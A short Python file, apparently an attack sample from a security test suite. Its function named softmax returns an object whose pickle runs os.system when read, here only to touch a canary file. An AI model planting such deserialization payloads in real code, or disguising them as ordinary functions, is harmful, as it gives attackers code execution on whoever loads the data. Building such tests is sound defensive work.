# /// attack
# what = "Returns an object whose pickle would run code where it is read."
# status = "failed"
# ///

import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch {CLASS}/BROKE",)


def softmax(x, axis=-1):
    return Bomb()
